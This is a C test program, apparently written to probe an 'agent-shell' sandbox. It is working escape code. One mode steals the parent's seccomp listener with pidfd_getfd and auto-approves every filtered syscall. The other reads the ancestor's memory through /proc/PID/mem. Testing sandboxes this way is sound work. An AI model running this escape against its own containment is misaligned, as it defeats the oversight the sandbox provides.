/* Attack (built -static): reach the nearest ancestor outside the sandbox
 * (under agent-shell: agent-shell itself, which keeps the session's seccomp
 * listener and in-flight table; natively: the parent).
 *   static_reach_out steal PROG [ARGS...]: copy its descriptors with
 *     pidfd_getfd; if one is a seccomp listener, answer every notification
 *     with "continue" from a child, then run PROG (up to 30 tries).
 *   static_reach_out peek: read its memory through /proc/PID/mem.
 * Prints what it got; "program ran"/"read outside memory" mean it won. */
#include <errno.h>
#include <fcntl.h>
#include <linux/seccomp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* "Key:\tvalue" of /proc/PID/status as a number, or -1 */
static long status_num(pid_t pid, const char *key)
{
	char p[64], line[256];
	snprintf(p, sizeof(p), "/proc/%d/status", (int)pid);
	FILE *f = fopen(p, "r");
	if (!f)
		return -1;
	long v = -1;
	size_t kl = strlen(key);
	while (fgets(line, sizeof(line), f))
		if (!strncmp(line, key, kl) && line[kl] == ':')
			v = strtol(line + kl + 1, NULL, 10);
	fclose(f);
	return v;
}

/* the nearest ancestor that runs without a seccomp filter */
static pid_t outside(void)
{
	pid_t p = getppid();
	for (int i = 0; i < 16 && p > 1; i++) {
		if (status_num(p, "Seccomp") == 0)
			return p;
		p = (pid_t)status_num(p, "PPid");
	}
	return -1;
}

static int is_listener(int fd)
{
	char p[64], t[64];
	snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
	ssize_t n = readlink(p, t, sizeof(t) - 1);
	if (n <= 0)
		return 0;
	t[n] = '\0';
	return !strcmp(t, "anon_inode:seccomp notify");
}

static int steal(pid_t victim, char **prog)
{
	int lfd = -1, pfd = (int)syscall(SYS_pidfd_open, victim, 0);
	for (int fd = 0; pfd >= 0 && fd < 256 && lfd < 0; fd++) {
		int f = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
		if (f >= 0 && is_listener(f))
			lfd = f;
		else if (f >= 0)
			close(f);
		else if (fd == 0)
			printf("pidfd_getfd: refused errno=%d\n", errno);
	}
	if (lfd >= 0) {
		printf("got the seccomp listener of pid %d\n", (int)victim);
		fflush(stdout);
		if (fork() == 0) {
			alarm(10); /* never outlive the test */
			for (;;) {
				struct seccomp_notif n;
				memset(&n, 0, sizeof(n));
				if (ioctl(lfd, SECCOMP_IOCTL_NOTIF_RECV, &n) <
				    0)
					continue;
				struct seccomp_notif_resp r = {
				    .id = n.id,
				    .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
				ioctl(lfd, SECCOMP_IOCTL_NOTIF_SEND, &r);
			}
		}
	}
	int rc = 1;
	for (int i = 0; i < 30 && rc; i++) {
		fflush(stdout);
		pid_t k = fork();
		if (k == 0) {
			execv(prog[0], prog);
			_exit(127);
		}
		int st;
		waitpid(k, &st, 0);
		rc = !(WIFEXITED(st) && WEXITSTATUS(st) == 0);
	}
	return rc;
}

static int peek(pid_t victim)
{
	char p[64], line[256];
	snprintf(p, sizeof(p), "/proc/%d/maps", (int)victim);
	FILE *f = fopen(p, "r");
	unsigned long lo = 0;
	if (f && fgets(line, sizeof(line), f))
		lo = strtoul(line, NULL, 16);
	if (f)
		fclose(f);
	snprintf(p, sizeof(p), "/proc/%d/mem", (int)victim);
	int fd = open(p, O_RDONLY);
	char b[8];
	if (fd < 0 || !lo || pread(fd, b, sizeof(b), (off_t)lo) != sizeof(b)) {
		printf("peek: refused errno=%d\n", errno);
		return 1;
	}
	printf("read outside memory of pid %d\n", (int)victim);
	return 0;
}

int main(int argc, char **argv)
{
	pid_t victim = outside();
	if (argc < 2 || victim < 0)
		return 2;
	if (!strcmp(argv[1], "steal") && argc > 2)
		return steal(victim, argv + 2);
	if (!strcmp(argv[1], "peek"))
		return peek(victim);
	return 2;
}
